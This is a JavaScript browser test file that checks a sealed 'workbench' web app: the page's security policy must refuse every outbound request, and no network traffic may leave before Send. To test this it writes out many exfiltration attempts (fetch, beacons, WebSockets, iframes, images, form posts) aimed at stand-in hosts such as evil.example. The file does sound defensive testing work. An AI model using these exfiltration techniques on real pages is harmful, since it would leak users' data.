// The promise, held by the browser: the workbench can reach nobody, and nothing leaves before Send.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { assert, Bench, browser, pause, scratch, site, test, until, world } from "./lib.mjs";
import { PASTE } from "./samples.mjs";

test("the workbench is sealed: every way out is refused, and no server sees a thing", async (bench) => {
  await bench.open();
  await bench.paste(PASTE);
  site.seen.length = 0;
  const tried = await bench.work.evaluate(async () => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const answer = async (run) => {
      try {
        return String(await run());
      } catch (error) {
        return error.name;
      }
    };
    const own = location.href;
    const out = {
      own: await answer(() => fetch(`${own}?leak`)),
      provider: await answer(() => fetch("https://api.anthropic.com/v1/leak", { method: "POST", body: "leak" })),
      request: await answer(
        () =>
          new Promise((done, failed) => {
            const request = new XMLHttpRequest();
            request.onload = () => done("loaded");
            request.onerror = () => failed(new TypeError());
            request.open("GET", `${own}?xhr-leak`);
            request.send();
          }),
      ),
      frame: await answer(() =>
        document.getElementById("valve").contentWindow.fetch("https://api.anthropic.com/frame-leak"),
      ),
      worker: await answer(() => new Worker("./worker-leak.js")),
    };
    navigator.sendBeacon(`${own}?beacon-leak`, "leak");
    navigator.sendBeacon("https://api.openai.com/beacon-leak", "leak");
    try {
      new WebSocket(`${own.replace("http", "ws")}socket-leak`);
      new EventSource(`${own}?events-leak`);
    } catch {
      // Refused at once.
    }
    const add = (tag, attributes) => {
      try {
        document.body.append(Object.assign(document.createElement(tag), attributes));
      } catch {
        // Trusted Types refuse it before the policy does.
      }
    };
    new Image().src = "https://evil.example/image-leak.png";
    add("iframe", { src: "https://evil.example/new-frame-leak" });
    add("iframe", { src: `${own}new-frame-leak` });
    add("link", { rel: "stylesheet", href: "https://evil.example/style-leak.css" });
    add("video", { src: "https://evil.example/video-leak.mp4" });
    add("object", { data: "https://evil.example/object-leak" });
    document.getElementById("valve").src = "https://evil.example/valve-leak";
    const form = Object.assign(document.createElement("form"), {
      action: "https://evil.example/form-leak",
      method: "post",
    });
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 700));
    return { ...out, refused };
  });
  for (const way of ["own", "provider", "request"]) assert.equal(tried[way], "TypeError", `${way}: ${tried[way]}`);
  assert.equal(tried.frame, "SecurityError");
  assert.match(tried.worker, /Error/);
  for (const directive of ["connect-src", "img-src", "frame-src", "form-action"]) {
    assert.ok(tried.refused.includes(directive), `${directive} refused nothing: ${tried.refused}`);
  }
  await pause(300);
  const leaks = [...site.seen, ...world.seen.map((one) => one.host + one.path)].filter((one) => one.includes("leak"));
  assert.deepEqual(leaks, []);
});

test("its worker is sealed too", async (bench) => {
  await bench.open();
  await until(() => bench.page.workers().length > 0, "the worker");
  const workers = bench.page.workers();
  assert.equal(workers.length, 1, "one worker examines");
  const said = await workers[0].evaluate(async (own) => {
    const answers = [];
    for (const url of [`${own}?worker-leak`, "https://api.anthropic.com/worker-leak"]) {
      answers.push(
        await fetch(url).then(
          () => "open",
          (error) => error.name,
        ),
      );
    }
    return answers;
  }, site.url);
  assert.deepEqual(said, ["TypeError", "TypeError"]);
  assert.ok(![...site.seen].some((one) => one.includes("worker-leak")));
  assert.deepEqual(world.seen, []);
});

test("prove it shows five refusals", async (bench) => {
  await bench.open();
  await bench.work.locator("[data-do=prove]").first().click();
  await pause(1500);
  assert.equal(await bench.work.locator("#prove-rows .refused").count(), 5);
  assert.match(await bench.text("#prove-sum"), /5 of 5/);
});

test("no request leaves before Send: the browser's own log", async () => {
  const log = join(scratch, "netlog.json");
  const own = await browser([`--log-net-log=${log}`, "--net-log-capture-mode=Everything"]);
  const context = await own.newContext({ viewport: { width: 1440, height: 900 } });
  const bench = new Bench(context);
  site.seen.length = 0;
  await bench.open();
  await pause(1200); // the service worker fills its cache
  const loaded = site.seen.length;
  await bench.paste(PASTE);
  await bench.work.locator("#tasks button").first().click();
  await bench.valveReady();
  const valve = bench.valve();
  await valve.locator("#key").fill(["sk", "ant", "not-a-real-key-0123456789"].join("-"));
  await valve.locator("#as-text").click();
  await pause(500);
  assert.equal(site.seen.length, loaded, `asked of the page's host after the paste: ${site.seen.slice(loaded)}`);
  assert.deepEqual(world.seen, [], "asked of other hosts");
  assert.deepEqual(bench.problems, []);
  await own.close();
  const text = readFileSync(log, "utf8");
  const urls = [...text.matchAll(/"url":"([^"]+)"/g)].map((found) => found[1]);
  // Chromium's own errands (updates, sign-in, form hints) go to its maker's hosts, of which none is a provider's.
  const maker = /^https?:\/\/(?!generativelanguage)[\w-]+\.(clients\.)?(google|googleapis|gvt1)\.com\//;
  const elsewhere = urls.filter((url) => /^(https?|wss?):/.test(url) && !url.startsWith(site.url) && !maker.test(url));
  assert.ok(
    urls.some((url) => url.startsWith(site.url)),
    "the log holds the page's own loading",
  );
  assert.deepEqual(elsewhere, []);
});
